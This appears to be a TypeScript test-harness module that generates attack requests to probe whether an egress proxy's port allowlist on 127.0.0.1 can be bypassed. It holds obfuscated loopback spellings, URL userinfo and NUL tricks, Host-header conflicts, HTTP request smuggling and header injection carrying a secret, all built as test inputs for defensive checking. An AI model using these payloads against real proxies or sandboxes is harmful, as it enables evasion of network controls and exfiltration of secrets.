/**
 * What a job asks of a proxy that it may connect to one port of 127.0.0.1 by, and to `localhost` at another one: each
 * request would lead to that other port, were it understood as somebody else understands it. Pure.
 */
import type { AttackKeys } from "./canaries/canary.ts";

/** Two ports of this host. */
export interface ProxyPorts {
  readonly listed: number;
  readonly unlisted: number;
}

/** A request line and fields as one text; each byte that is none of a word's is written %XX. */
function http(...lines: readonly string[]): string {
  return `http ${escapeBytes(Buffer.from(`${lines.join("\r\n")}\r\n\r\n`))}`;
}

function escapeBytes(bytes: Uint8Array): string {
  const escape = (byte: number): string =>
    byte > 0x20 && byte < 0x7f && byte !== 0x25
      ? String.fromCharCode(byte)
      : `%${byte.toString(16).padStart(2, "0").toUpperCase()}`;
  return [...bytes].map(escape).join("");
}

function tunnel(target: string): string {
  return http(`CONNECT ${target} HTTP/1.1`);
}

const addressTypes = { ipv4: 1, name: 3, ipv6: 4 } as const;

/** No authentication, then CONNECT (RFC 1928). */
function socks(type: keyof typeof addressTypes, address: readonly number[], port: number): string {
  const length = type === "name" ? [address.length] : [];
  const request = [5, 1, 0, addressTypes[type], ...length, ...address, port >> 8, port & 0xff];
  return `socks ${escapeBytes(Uint8Array.from([5, 1, 0, ...request]))}`;
}

const bytesOf = (text: string): number[] => [...Buffer.from(text)];

/** Hosts that some take for 127.0.0.1, or for what stands in front of them (inet_aton(3), RFC 3986, RFC 4291, UTS 46). */
const spelledHosts = [
  "127.0.0.1",
  "127.0.0.1.",
  "127.1",
  "0x7f.0.0.1",
  "0x7f000001",
  "2130706433",
  "0177.0.0.1",
  "127%2e0.0.1",
  "127.0.0.2",
  "0.0.0.0",
  "１２７.0.0.1",
  "[::1]",
  "[::1%25lo]",
  "[::ffff:127.0.0.1]",
  "[::ffff:7f00:1]",
  "listed.invalid@127.0.0.1",
  "listed.invalid\0.127.0.0.1",
] as const;

function spellingRequests({ listed, unlisted }: ProxyPorts): string[] {
  const hosts = [...spelledHosts, `127.0.0.1:${listed}`, `127.0.0.1:${listed}@127.0.0.1`];
  const loopback6 = [...Array<number>(15).fill(0), 1];
  return [
    ...hosts.map((host) => tunnel(`${host}:${unlisted}`)),
    tunnel(`127.0.0.1:${unlisted}#@127.0.0.1:${listed}`),
    http(`GET http://127.0.0.1:${unlisted}\\@127.0.0.1:${listed}/ HTTP/1.1`, `Host: 127.0.0.1:${listed}`),
    socks("ipv4", [127, 0, 0, 1], unlisted),
    socks("ipv6", loopback6, unlisted),
    socks("name", bytesOf("127.0.0.1"), unlisted),
    socks("name", bytesOf("127.0.0.1\0.listed.invalid"), unlisted),
  ];
}

function leadingRequests({ unlisted }: ProxyPorts): string[] {
  return [
    ...["localhost", "LOCALHOST", "localhost."].map((name) => tunnel(`${name}:${unlisted}`)),
    http(`GET http://localhost:${unlisted}/ HTTP/1.1`, `Host: localhost:${unlisted}`),
    socks("name", bytesOf("localhost"), unlisted),
  ];
}

function twofoldRequests({ listed, unlisted }: ProxyPorts): string[] {
  const [here, there] = [`127.0.0.1:${listed}`, `127.0.0.1:${unlisted}`];
  const get = [`GET http://${here}/ HTTP/1.1`, `Host: ${here}`];
  const post = [`POST http://${here}/ HTTP/1.1`, `Host: ${here}`];
  const other = [`GET http://${there}/ HTTP/1.1`, `Host: ${there}`];
  return [
    http(`GET http://${here}/ HTTP/1.1`, `Host: ${there}`),
    http(...get, `Host: ${there}`),
    http(...get, ` Host: ${there}`),
    http("GET / HTTP/1.1", `Host: ${there}`),
    http(`CONNECT ${here} HTTP/1.1`, `Host: ${there}`),
    http(...get, "", ...other),
    http(...post, "Content-Length: 5", "Transfer-Encoding: chunked", "", "0", "", ...other),
    http(...post, "Content-Length: 0", "Content-Length: 9", "", ...other),
  ];
}

/** What such a job may connect to, as flags of `run` say it. */
export function proxyRules({ listed, unlisted }: ProxyPorts): string[] {
  return [`127.0.0.1:${listed}`, `localhost:${unlisted}`, `listed.invalid:${unlisted}`];
}

/** Its requests, as keys for the attacker. */
export function proxyRequests(ports: ProxyPorts): AttackKeys {
  return {
    "egress-address": "127.0.0.1",
    "egress-port": String(ports.unlisted),
    "listed-request": tunnel(`127.0.0.1:${ports.listed}`),
    "spelling-requests": spellingRequests(ports).join("\n"),
    "leading-requests": leadingRequests(ports).join("\n"),
    "twofold-requests": twofoldRequests(ports).join("\n"),
  };
}

/** Where a secret goes, and another place that the job may connect to as well: ports of 127.0.0.1. */
export interface InjectionPorts {
  readonly named: number;
  readonly other: number;
}

/** A header of the job's own that some of them have, by which they are known. */
export const askedHeader = "X-Asked";

/** The first asks for the header as it is meant; by each of the others it would come to the other place. */
export function injectionRequests({ named, other }: InjectionPorts, header: string, secret: string): AttackKeys {
  const [here, there] = [`127.0.0.1:${named}`, `127.0.0.1:${other}`];
  const [toNamed, toOther] = [`GET http://${here}/ HTTP/1.1`, `GET http://${there}/ HTTP/1.1`];
  const asked = [`${header}: {${secret}}`, `${askedHeader}: {${secret}}`];
  const requests = [
    http(toNamed, `Host: ${here}`),
    http(toOther, `Host: ${there}`, ...asked),
    http(toOther, `Host: ${here}`, ...asked),
    http(toNamed, `Host: ${there}`),
    http(toNamed, `Host: ${here}`, `Host: ${there}`),
    http(toNamed, `Host: ${here}`, "", toOther, `Host: ${there}`),
    http(toOther, `Host: ${there}`, "", toNamed, `Host: ${here}`),
    http(`CONNECT ${there} HTTP/1.1`, "", "GET / HTTP/1.1", `Host: ${here}`),
    http(`CONNECT ${there} HTTP/1.1`, `Host: ${here}`, "", toNamed, `Host: ${here}`),
    http(`GET http://${here}@${there}/ HTTP/1.1`, `Host: ${here}`),
    http(`GET http://${there}#@${here}/ HTTP/1.1`, `Host: ${here}`),
  ];
  return { "twofold-requests": requests.join("\n") };
}
